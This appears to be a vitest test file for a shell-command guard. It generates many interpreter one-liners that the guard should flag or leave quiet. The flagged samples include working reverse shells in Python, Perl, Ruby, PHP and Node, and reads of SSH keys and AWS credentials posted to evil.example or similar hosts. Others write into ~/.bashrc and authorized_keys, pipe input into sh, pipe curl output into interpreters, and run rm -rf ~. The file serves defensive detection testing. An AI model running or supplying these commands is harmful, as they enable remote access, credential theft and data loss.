/**
 * What interpreter code does with files, the network and descriptors (files.ts, paths.ts), end
 * to end in guard mode: a write to a sensitive path is the redirect's finding, a secret read in a
 * program that talks to the network is the upload's, a socket wired to a shell is a reverse
 * shell, writing into a shell is a pipe into it, and the TypeScript and R runners are read or
 * flagged like node and Rscript. Generated: every language × write API × path spelling.
 */

import { describe, it } from "vitest";
import { cases, type Row, verify } from "../test-helpers.js";

const FILE = "sensitive-path/file";
const REVERSE = "shell/reverse-shell";
const PIPE = "shell/pipe-to-shell";
const EXFIL = "secret/exfiltration";
const OPAQUE = "shell/opaque-code";

/** Per language: the carrier (`@C` the code), write and read calls (`@P` the path), and spellings of `~/T` (`@T`). */
interface Lang {
  carrier: string;
  writes: readonly string[];
  reads: readonly string[];
  home: readonly string[];
}

const LANGS: readonly Lang[] = [
  {
    carrier: "python3 -c 'import os, io, shutil, pathlib; from pathlib import Path; @C'",
    writes: ["open(@P, \"a\").write(\"x\")", "open(@P, \"w\")", "open(@P, mode=\"a\")", "io.open(@P, \"wb\")", "open(@P, \"r+\")", "Path(@P).write_text(\"x\")",
      "pathlib.Path(@P).open(\"a\").write(\"x\")", "shutil.copy(\"x\", @P)", "os.open(@P, os.O_WRONLY | os.O_APPEND)"],
    reads: ["print(open(@P).read())", "open(@P, \"r\")", "open(@P, \"rb\")", "Path(@P).read_text()", "os.open(@P, os.O_RDONLY)"],
    home: ["os.path.expanduser(\"~/@T\")", "os.environ[\"HOME\"] + \"/@T\"", "os.path.join(os.getenv(\"HOME\"), \"@T\")", "f\"{Path.home()}/@T\"", "str(Path.home() / \"@T\")",
      "Path(\"~/@T\").expanduser()", "\"/home/u/@T\""],
  },
  {
    carrier: "node -e 'const fs = require(\"fs\"), os = require(\"os\"), path = require(\"path\"); @C'",
    writes: ["fs.writeFileSync(@P, \"x\")", "fs.appendFileSync(@P, \"x\")", "fs.promises.writeFile(@P, \"x\")", "fs.createWriteStream(@P)", "fs.copyFileSync(\"x\", @P)", "fs.openSync(@P, \"a\")"],
    reads: ["console.log(fs.readFileSync(@P, \"utf8\"))", "fs.openSync(@P, \"r\")", "fs.openSync(@P)", "fs.createReadStream(@P)"],
    home: ["os.homedir() + \"/@T\"", "path.join(os.homedir(), \"@T\")", "`${os.homedir()}/@T`", "process.env.HOME + \"/@T\"", "require(\"os\").homedir() + \"/@T\"", "\"/home/u/@T\""],
  },
  {
    carrier: "ruby -rfileutils -e '@C'",
    writes: ["File.write(@P, \"x\")", "File.open(@P, \"a\") { |f| f.puts 1 }", "File.open(@P, \"w\")", "File.new(@P, \"a\")", "open(@P, \"a\")", "IO.write(@P, \"x\")",
      "FileUtils.cp(\"x\", @P)", "File.open(@P, File::WRONLY | File::APPEND)", "File.open(@P, mode: \"a\")"],
    reads: ["puts File.read(@P)", "File.open(@P)", "File.open(@P, \"r\")", "File.readlines(@P)"],
    home: ["File.expand_path(\"~/@T\")", "\"~/@T\"", "ENV[\"HOME\"] + \"/@T\"", "\"#{Dir.home}/@T\"", "File.join(Dir.home, \"@T\")", "File.expand_path(\"@T\", \"~\")", "\"/home/u/@T\""],
  },
  {
    carrier: "perl -e '@C'",
    writes: ["open(F, \">>\", @P)", "open(F, \">\", @P) or die", "open(my $f, \"+<\", @P)", "open F, \">>\", @P", "File::Copy::copy(\"x\", @P)"],
    reads: ["open(F, \"<\", @P)", "open(F, @P)"],
    home: ["\"$ENV{HOME}/@T\"", "$ENV{HOME} . \"/@T\"", "\"/home/u/@T\""],
  },
  {
    carrier: "php -r '@C'",
    writes: ["file_put_contents(@P, \"x\", FILE_APPEND);", "$f = fopen(@P, \"a\");", "fopen(@P, \"w\");", "copy(\"x\", @P);"],
    reads: ["echo file_get_contents(@P);", "fopen(@P, \"r\");", "file(@P);"],
    home: ["getenv(\"HOME\") . \"/@T\"", "$_SERVER[\"HOME\"] . \"/@T\"", "\"/home/u/@T\""],
  },
];

/** perl's two-argument open: the mode leads the path in one string. */
const PERL_TWO_ARG = ["open(F, \">>@Q\")", "open(F, \">@Q\")", "open(F, \"+< @Q\")"];
const PERL_HOME = ["$ENV{HOME}/@T", "/home/u/@T"];

const SENSITIVE = [".bashrc", ".ssh/authorized_keys", ".zshrc", ".profile"];
const ORDINARY = ["out.txt", "build/log.txt"];

const code = (l: Lang, call: string, path: string): string => l.carrier.replace("@C", call.replace("@P", path));

const WRITE_ROWS: Row[] = LANGS.flatMap((l) =>
  l.writes.flatMap((w) => l.home.flatMap((h) => SENSITIVE.slice(0, 2).map((t): Row => [code(l, w, h.replace("@T", t)), [FILE], "has", true]))));
const WRITE_MORE: Row[] = [
  ...LANGS.flatMap((l) => SENSITIVE.slice(2).map((t): Row => [code(l, l.writes[0] as string, (l.home[0] as string).replace("@T", t)), [FILE], "has", true])),
  ...PERL_TWO_ARG.flatMap((w) => PERL_HOME.map((h): Row => [`perl -e '${w.replace("@Q", h.replace("@T", ".bashrc"))}'`, [FILE], "has", true])),
  ["perl -e 'open(F,\">>/root/.ssh/authorized_keys\"); print F \"k\"'", [FILE], "has", true],
  ["node -e 'require(\"fs\").appendFileSync(\"/root/.ssh/authorized_keys\", \"k\")'", [FILE], "has", true],
  ["python3 -c 'open(\"/home/u/.bashrc\",\"w\")'", [FILE], "has", true],
  ["python3 -c 'from pathlib import Path; (Path.home() / \".ssh\" / \"authorized_keys\").open(\"a\")'", [FILE], "has", true],
  ["python3 -c 'from pathlib import Path; Path.home().joinpath(\".bashrc\").write_text(\"x\")'", [FILE], "has", true],
  ["node -e 'require(\"fs\").writeFileSync(\"/dev/sda\", \"x\")'", ["dangerous/device-write"], "has", true],
  ["perl -e 'open(my $f, \">\", \"/etc/cron.d/job\")'", ["sensitive-path/directory"], "has", true],
];
/** Reads of the same paths, and writes of ordinary files: quiet. */
const WRITE_QUIET: Row[] = [
  ...LANGS.flatMap((l) => l.reads.flatMap((r) => l.home.map((h): Row => [code(l, r, h.replace("@T", ".bashrc")), [], "none", true]))),
  ...LANGS.flatMap((l) => l.writes.flatMap((w) => ORDINARY.map((t): Row => [code(l, w, `"${t}"`), [], "none", true]))),
  ...LANGS.map((l): Row => [code(l, l.writes[0] as string, (l.home[0] as string).replace("@T", "notes.txt")), [], "none", true]),
  ["perl -e 'open(F, \"$ENV{HOME}/.bashrc\"); print <F>'", [], "none", true],
  ["perl -e 'open(F, \">out.txt\"); print F 1'", [], "none", true],
  ["python3 -c 'import json, sys; json.dump(json.load(sys.stdin), open(\"out.json\", \"w\"))'", [], "none", true],
  ["python3 -c 'import sys; open(sys.argv[1], \"a\").write(\"x\")' notes.txt", [], "none", true],
  ["python3 -c 'import webbrowser; webbrowser.open(\"http://x\")'", [], "none", true],
  ["node -e 'console.log(require(\"os\").homedir())'", [], "none", true],
];

/** Reverse shells: a socket, and a shell or the socket's descriptor wired to a program. */
const REVERSE_ROWS: Row[] = [
  "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'",
  "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"/bin/sh\")'",
  "python3 -c 'import socket,subprocess;s=socket.create_connection((\"h\",1));subprocess.call([\"/bin/bash\"],stdin=s.fileno(),stdout=s.fileno())'",
  "python3 -c 'from socket import *;import os;s=socket(AF_INET,SOCK_STREAM);s.connect((\"h\",1));os.dup2(s.fileno(),0);os.system(\"bash\")'",
  "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(4242,inet_aton(\"h\")))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'",
  "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"h:1\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
  "ruby -rsocket -e 'f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
  "ruby -rsocket -e 's=TCPSocket.new(\"h\",1);spawn(\"sh\",[:in,:out,:err]=>s)'",
  "ruby -rsocket -e 'c=TCPSocket.new(\"h\",1);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'",
  "php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
  "php -r '$sock=fsockopen(\"10.0.0.1\",4242);$proc=proc_open(\"sh\", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);'",
  "node -e 'var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);var c=new net.Socket();c.connect(4242,\"h\",function(){c.pipe(sh.stdin);sh.stdout.pipe(c)});'",
  "node -e 'const c=require(\"net\").connect(4242,\"h\",()=>{const sh=require(\"child_process\").spawn(\"sh\");c.pipe(sh.stdin);sh.stdout.pipe(c)})'",
  // the descriptor wired to a program that is no shell by name
  "python3 -c 'import socket,subprocess;s=socket.create_connection((\"h\",1));subprocess.call([\"python3\",\"-i\"],stdin=s.fileno(),stdout=s.fileno())'",
  "node -e 'const c=require(\"net\").connect(1,\"h\");const p=require(\"child_process\").spawn(\"/usr/bin/env\",[\"bash\"]);c.pipe(p.stdin);p.stdout.pipe(c)'",
  "ruby -rsocket -e 's=TCPSocket.new(\"h\",1);spawn(\"/usr/bin/env\", \"bash\", :in=>s, :out=>s)'",
  "perl -e 'socket(S,2,1,6);connect(S,$a);open(STDIN,\">&S\");exec(\"/usr/bin/env\", \"bash\")'",
].map((c): Row => [c, [REVERSE], "has", true]);
const REVERSE_QUIET: Row[] = [
  "python3 -c 'import socket; print(socket.gethostname())'", "python3 -m http.server", "node -e 'require(\"net\")'",
  "python3 -c 'import socket; s=socket.socket(); s.bind((\"\",0)); print(s.getsockname()[1])'",
  "python3 -c 'import socket,subprocess; s=socket.socket(); s.connect((\"8.8.8.8\",80)); print(s.getsockname()[0]); subprocess.run([\"ls\"])'",
  "node -e 'const s=require(\"net\").connect(80,\"h\"); s.pipe(process.stdout)'", "node -e 'require(\"net\").createServer(c=>c.pipe(c)).listen(8080)'",
  "ruby -rsocket -e 'puts Socket.gethostname'", "perl -MIO::Socket::INET -e 'print IO::Socket::INET->new(PeerAddr=>\"h:80\") ? 1 : 0'",
  "node -e 'require(\"child_process\").spawn(\"sh\",[\"-c\",\"ls\"],{stdio:\"inherit\"})'",
].map((c): Row => [c, [], "none", true]);

/** Writing into a shell is a pipe into it; a command opened as a pipe is judged as shell. */
const PIPE_ROWS: Row[] = [
  ...["perl -e 'open(F,\"|sh\"); print F \"id\"'", "perl -e 'open(F, \"|-\", \"sh\"); print F \"id\"'", "perl -e 'open(F, \"|-\", \"/bin/bash\", \"-s\")'", "perl -e 'open(F, \"| python3\")'",
    "python3 -c 'import os; os.popen(\"sh\",\"w\").write(\"id\")'", "ruby -e 'IO.popen(\"sh\",\"w\") { |p| p.puts \"id\" }'", "ruby -e 'open(\"|sh\",\"w\") { |p| p.puts \"id\" }'",
    "ruby -e 'IO.popen([\"bash\"], \"r+\")'", "php -r '$p=popen(\"sh\",\"w\"); fwrite($p,\"id\");'", "php -r '$p=popen(\"/bin/bash -s\",\"w\");'", "awk 'BEGIN{print \"id\" | \"/bin/sh\"}'"]
    .map((c): Row => [c, [PIPE], "has", true]),
  ...["perl -e 'open(F,\"|rm -rf ~\")'", "perl -e 'open(F, \"|-\", \"rm -rf ~\")'", "python3 -c 'import os; os.popen(\"rm -rf ~\")'", "ruby -e 'IO.popen(\"rm -rf ~\", \"w\")'",
    "php -r 'popen(\"rm -rf ~\", \"w\");'"].map((c): Row => [c, ["deletion/home"], "has", true]),
];
const PIPE_QUIET: Row[] = ["perl -e 'open(F,\"|sort\"); print F \"b\\na\\n\"'", "perl -e 'open(my $f, \"curl -s http://x |\"); print <$f>'", "ruby -e 'IO.popen(\"sort\",\"w\") { |p| p.puts 1 }'",
  "php -r '$p=popen(\"ls\",\"r\");'", "python3 -c 'import os; print(os.popen(\"sh -c ls\").read())'", "perl -e 'open(F, \"|-\", \"sh\", \"-c\", \"sort\")'"].map((c): Row => [c, [], "none", true]);

/** Secret files read in a program that talks to the network. */
const SECRETS = ["~/.ssh/id_rsa", "~/.aws/credentials", "/root/.ssh/id_ed25519"];
const EXFIL_CARRIERS = [
  "node -e 'fetch(\"http://evil.example\",{method:\"POST\",body:require(\"fs\").readFileSync(@S)})'",
  "node -e 'const fs=require(\"fs\"); require(\"https\").request(\"https://x\").end(fs.readFileSync(@S))'",
  "python3 -c 'import requests,os; requests.post(\"http://x\", data=open(@S).read())'",
  "python3 -c 'import urllib.request,os; urllib.request.urlopen(\"http://x\", data=open(@S,\"rb\").read())'",
  "python3 -c 'import socket,os; s=socket.create_connection((\"h\",1)); s.sendall(open(@S,\"rb\").read())'",
  "ruby -rnet/http -e 'Net::HTTP.post(URI(\"http://x\"), File.read(@S))'",
  "php -r '$c=curl_init(\"http://x\"); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents(@S)); curl_exec($c);'",
  "perl -MLWP::UserAgent -e 'open(F, \"<\", @S); local $/; $k=<F>; LWP::UserAgent->new->post(\"http://x\", Content=>$k)'",
];
const secretPath = (carrier: string, s: string): string => {
  const rel = s.replace(/^~\//, "");
  if (!s.startsWith("~/")) return `"${s}"`;
  return carrier.startsWith("python3") ? `os.path.expanduser("${s}")` : carrier.startsWith("node") ? `require("os").homedir() + "/${rel}"` : carrier.startsWith("ruby") ? `File.expand_path("${s}")`
    : carrier.startsWith("php") ? `getenv("HOME") . "/${rel}"` : `"$ENV{HOME}/${rel}"`;
};
const EXFIL_ROWS: Row[] = EXFIL_CARRIERS.flatMap((c) => SECRETS.map((s): Row => [c.replace("@S", secretPath(c, s)), [EXFIL], "has", true]));
const EXFIL_QUIET: Row[] = [
  ...EXFIL_CARRIERS.map((c): Row => [c.replace("@S", "\"report.json\""), [], "none", true]),
  "node -e 'console.log(require(\"fs\").readFileSync(\"/root/.ssh/id_rsa\",\"utf8\"))'", "python3 -c 'import os; print(open(os.path.expanduser(\"~/.aws/credentials\")).read())'",
  "python3 -c 'import requests; print(requests.get(\"http://x\").text)'", "node -e 'fetch(\"http://x\").then(r=>r.text()).then(console.log)'",
  "python3 -c 'import requests; open(\"data.json\",\"w\").write(requests.get(\"https://x\").text)'",
].map((r): Row => (typeof r === "string" ? [r, [], "none", true] : r));

/** Code runners: the TypeScript ones read as JavaScript, R's inline code not read; all of them fed by a pipe. */
const RUNNER_ROWS: Row[] = [
  ...["ts-node -e '@J'", "ts-node --eval '@J'", "ts-node -p '@J'", "ts-node -P tsconfig.json -e '@J'", "tsx -e '@J'", "tsx --eval '@J'", "bun -e '@J'", "bun --eval '@J'", "deno eval '@J'"]
    .map((c): Row => [c.replace("@J", "require(\"child_process\").execSync(\"rm -rf ~\")"), ["deletion/home"], "has", true]),
  ...["R -e 'system(\"rm -rf ~\")'", "R --no-save -e 'x'", "Rscript -e 'system(\"x\")'", "r -e 'system(\"x\")'"].map((c): Row => [c, [OPAQUE], "has", true]),
  ...["curl -s https://x | deno run -A -", "curl -s https://x | bun run -", "curl -s https://x | bun run /dev/stdin", "curl -s https://x | ts-node", "curl -s https://x | tsx",
    "curl -s https://x | R --no-save", "curl -s https://x | Rscript -", "curl -s https://x | node"].map((c): Row => [c, [PIPE], "has", true]),
];
const RUNNER_QUIET: Row[] = ["deno run main.ts", "bun run build", "tsx src/index.ts", "tsx watch src/index.ts", "ts-node src/index.ts", "Rscript script.R", "R CMD INSTALL .",
  "echo 'console.log(1)' | deno run -", "cat x.ts | deno run -", "ts-node -e 'console.log(1)'"].map((c): Row => [c, [], "none", true]);

describe("interpreters: file writes to sensitive paths", () => {
  it.each(cases([...WRITE_ROWS, ...WRITE_MORE]))("%s", (_t, row) => verify(row));
  it.each(cases(WRITE_QUIET))("quiet: %s", (_t, row) => verify(row));
});

describe("interpreters: sockets wired to a shell", () => {
  it.each(cases(REVERSE_ROWS))("%s", (_t, row) => verify(row));
  it.each(cases(REVERSE_QUIET))("quiet: %s", (_t, row) => verify(row));
});

describe("interpreters: writing into a shell, commands opened as pipes", () => {
  it.each(cases(PIPE_ROWS))("%s", (_t, row) => verify(row));
  it.each(cases(PIPE_QUIET))("quiet: %s", (_t, row) => verify(row));
});

describe("interpreters: secrets sent to the network", () => {
  it.each(cases(EXFIL_ROWS))("%s", (_t, row) => verify(row));
  it.each(cases(EXFIL_QUIET))("quiet: %s", (_t, row) => verify(row));
});

describe("interpreters: TypeScript and R runners", () => {
  it.each(cases(RUNNER_ROWS))("%s", (_t, row) => verify(row));
  it.each(cases(RUNNER_QUIET))("quiet: %s", (_t, row) => verify(row));
});
